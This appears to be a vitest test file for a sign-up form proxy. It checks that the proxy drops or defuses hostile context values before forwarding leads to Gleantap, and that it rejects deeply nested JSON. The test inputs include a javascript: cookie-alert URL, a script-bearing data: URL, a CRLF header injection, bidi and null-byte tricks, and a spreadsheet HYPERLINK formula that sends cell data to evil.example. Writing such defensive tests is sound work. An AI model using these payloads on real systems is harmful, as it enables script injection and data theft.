import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fetchToken, type Harness, post, SITE_ORIGIN, startHarness } from '../testing/harness.ts';
import { listOutbox } from '../testing/outbox-cli.ts';
import { TRIAL_FORMS_FILE } from '../testing/trial-forms-file.ts';

// The submission's `context` obeys the text rules and the URL and formula rules before anything
// reaches Gleantap. Context is what the browser collected, not what the visitor typed: a value
// that breaks a rule is dropped (a formula-like UTM value defused), and the lead is kept.

const CONTEXT_FORMS_FILE = {
  ...TRIAL_FORMS_FILE,
  forms: {
    trial: {
      ...TRIAL_FORMS_FILE.forms.trial,
      contextAttributes: { utm_source: 'utm_source', utm_campaign: 'utm_campaign', page_url: 'signup_page', referrer: 'came_from', locale: 'signup_locale' },
    },
  },
};

describe('submission context', () => {
  let harness: Harness;
  let smsVersion: string;
  beforeAll(async () => {
    harness = await startHarness({ formsFile: CONTEXT_FORMS_FILE });
    const definition = (await (await fetch(`${harness.proxy.url}/v1/forms/trial`, { headers: { origin: SITE_ORIGIN } })).json()) as {
      consent: Array<{ kind: string; version: string }>;
    };
    smsVersion = definition.consent.find((item) => item.kind === 'sms')?.version ?? '';
  });
  afterAll(() => harness.close());

  const submit = (context: Record<string, unknown>) =>
    post(
      harness.proxy.url,
      { id: crypto.randomUUID(), fields: { first_name: 'Ada', last_name: 'Lovelace', email: 'ada@example.com' }, consent: { sms: { granted: true, version: smsVersion } }, context },
      { formId: 'trial' },
    );

  it('keeps the lead and drops what breaks the rules: hostile URLs, controls, bidi, lone surrogates, invisible text, bad locales', async () => {
    const hostile: Array<Record<string, string>> = [
      { page_url: 'javascript:alert(document.cookie)' },
      { referrer: 'data:text/html,<script>alert(1)</script>' },
      { referrer: 'android-app://com.google.android.gm/' },
      { utm_source: 'news\r\nX-Injected: 1' },
      { utm_medium: 'a\u0000b' },
      { utm_campaign: 'evil\u202Etxt.exe' },
      { utm_term: 'half\uD800' },
      { utm_content: 'zero\u200Bwidth' },
      { locale: 'en'.repeat(1024) },
      { locale: 'en<script>' },
    ];
    for (const context of hostile) {
      const response = await submit(context);
      expect(response.status, JSON.stringify(context)).toBe(201);
    }
    const contacts = await harness.contacts();
    expect(contacts).toHaveLength(1); // the same visitor each time: Gleantap updated one contact
    for (const attribute of ['signup_page', 'came_from', 'utm_source', 'utm_campaign', 'signup_locale', 'sms_consent_page']) {
      expect(contacts[0], attribute).not.toHaveProperty(attribute);
    }
    const sent = (await harness.calls())
      .flatMap((call) => Object.values(call.body as Record<string, unknown>))
      .filter((value) => typeof value === 'string')
      .join('\n');
    for (const fragment of ['javascript:', 'data:text', 'android-app', 'X-Injected', '\u0000', '\u202E', '\uD800', '\u200B', '<script>', 'enen']) {
      expect(sent, JSON.stringify(fragment)).not.toContain(fragment);
    }
  });

  it('defuses UTM values that a spreadsheet would run as a formula, keeping the campaign', async () => {
    for (const [key, value] of [
      ['utm_source', '=HYPERLINK("https://evil.example/?"&A1,"Click")'],
      ['utm_campaign', '-20% off'],
    ] as const) {
      const response = await submit({ [key]: value });
      expect(response.status, value).toBe(201);
      const [contact] = await harness.contacts();
      expect(contact, value).toMatchObject({ [key]: `'${value}` });
    }
  });

  it('sends page and referrer URLs without fragment and with only utm_* query parameters, and text values normalised', async () => {
    const response = await submit({
      page_url: 'https://www.example-gym.com/trial?email=ada%40example.com&phone=4155552671&utm_source=news&utm_campaign=spring#thanks',
      referrer: 'https://mail.example/inbox?token=secret#msg-1',
      utm_source: ' news ',
      utm_campaign: 'Fe\u0301vrier',
      locale: 'pt-BR',
    });
    expect(response.status).toBe(201);
    const [contact] = await harness.contacts();
    expect(contact).toMatchObject({
      signup_page: 'https://www.example-gym.com/trial?utm_source=news&utm_campaign=spring',
      sms_consent_page: 'https://www.example-gym.com/trial?utm_source=news&utm_campaign=spring',
      came_from: 'https://mail.example/inbox',
      utm_source: 'news',
      utm_campaign: 'Février',
      signup_locale: 'pt-BR',
    });
  });
});

describe('deeply nested bodies', () => {
  let harness: Harness;
  beforeAll(async () => {
    harness = await startHarness();
  });
  afterAll(() => harness.close());

  const nested = (depth: number) => `${'['.repeat(depth)}"Ada"${']'.repeat(depth)}`;
  // Hand-written JSON text, with a fresh form token as the widget would send.
  const body = async (value: string, hp: string | undefined) =>
    `{"id":"${crypto.randomUUID()}","token":"${await fetchToken(harness.proxy.url)}","fields":{"first_name":${value},"last_name":"Lovelace","email":"ada@example.com"}${hp === undefined ? '' : `,"hp":${JSON.stringify(hp)}`}}`;

  it('are 400 invalid_body whether or not the honeypot is filled, and nothing is stored or sent', async () => {
    for (const depth of [17, 200, 5_000]) {
      for (const hp of [undefined, '', 'http://spam.example']) {
        const response = await post(harness.proxy.url, await body(nested(depth), hp));
        expect(response.status, `depth ${depth}, hp ${String(hp)}`).toBe(400);
        expect(await response.json()).toMatchObject({ error: { code: 'invalid_body' } });
      }
    }
    expect(await harness.calls()).toEqual([]);
    expect(harness.logs.filter((line) => /"level":"error"/.test(line))).toEqual([]);
    expect(await listOutbox(harness.dataDir)).toEqual([]);
  });

  it('a shallow wrong value is still a field error, or a dropped lead with the honeypot filled', async () => {
    const plain = await post(harness.proxy.url, await body(nested(3), undefined));
    expect(plain.status).toBe(400);
    expect(await plain.json()).toMatchObject({ error: { code: 'invalid_fields', fields: { first_name: 'invalid_type' } } });
    const honeypot = await post(harness.proxy.url, await body(nested(3), 'http://spam.example'));
    expect(honeypot.status).toBe(202);
    expect(await harness.calls()).toEqual([]);
    expect((await listOutbox(harness.dataDir)).map((row) => row.state)).toEqual(['dropped']);
  });
});
